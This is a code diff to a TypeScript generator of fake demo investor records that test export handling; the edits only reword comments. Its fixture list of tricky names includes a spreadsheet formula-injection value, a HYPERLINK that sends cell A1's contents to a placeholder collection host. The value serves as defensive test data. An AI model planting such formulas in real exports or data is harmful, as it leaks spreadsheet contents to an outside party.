@@ -1,9 +1,9 @@
-// Made-up investors, the same every time. They look real and hold everything that exports tend to get wrong. Their tax
-// ids and bank routing numbers come from ranges that are never issued, so they belong to no one.
+// Made-up investors. They are the same every time, look real, and have values that exports often get wrong. Their Tax IDs
+// and bank routing numbers are from ranges that are never issued, so they belong to no one.
 import type { InvestorRow } from '../src/investors/import/investor-row.ts'
 import { chance, createRandom, pick, type Random } from './demo-random.ts'
 
-/** An investor, and how many days before today it was added. */
+/** An investor. `ageDays`: how many days ago it was added. */
 export type DemoInvestor = InvestorRow & { ageDays: number }
 
 const oldestDays = 730
@@ -37,7 +37,7 @@ const banks = [
   'Crédit Meridian, N.A.',
 ]
 
-/** Names that break a careless export: each account begins with these. */
+/** Names that break a careless export. Each account begins with them. */
 const notableNames = [
   '=HYPERLINK("https://collect.example/?q="&A1,"Open statement")',
   '+1 Ventures LLC',
@@ -53,7 +53,7 @@ const notableNames = [
   "O'Brien \\ Sons\tLP",
 ]
 
-/** @param prefix begins the external ids. */
+/** @param prefix the beginning of the external ids. */
 export function* makeDemoInvestors(seed: number, prefix: string, count: number): Generator<DemoInvestor> {
   const random = createRandom(seed)
   for (let n = 1; n <= count; n += 1) yield makeInvestor(random, prefix, n)
@@ -101,7 +101,7 @@ function makeAddress(random: Random): string {
   return [street, ...unit, pick(random, cities)].join('\n')
 }
 
-/** Social security numbers never begin with 000 or 666, and employers never get the prefixes below. */
+/** Social Security numbers never begin with 000 or 666. Employers never get the prefixes below. */
 function makeTaxId(random: Random, profileType: InvestorRow['profileType']): string {
   const company = profileType === 'TRUST' || profileType === 'ENTITY'
   const id = company
@@ -126,7 +126,7 @@ const noBankDetails = {
   bankAccountNumber: null,
 }
 
-/** No bank's number begins with 0000 or with 13 to 20. The ninth digit is the ABA's checksum of the others. */
+/** No routing number begins with 0000 or with 13 to 20. The ninth digit is the ABA's checksum of the others. */
 function makeRoutingNumber(random: Random): string {
   const start = pick(random, ['0000', '1300', '1400', '1900']) + digits(random, 4)
   const sum = Array.from(start, (digit, i) => Number(digit) * ([3, 7, 1][i % 3] ?? 0)).reduce(
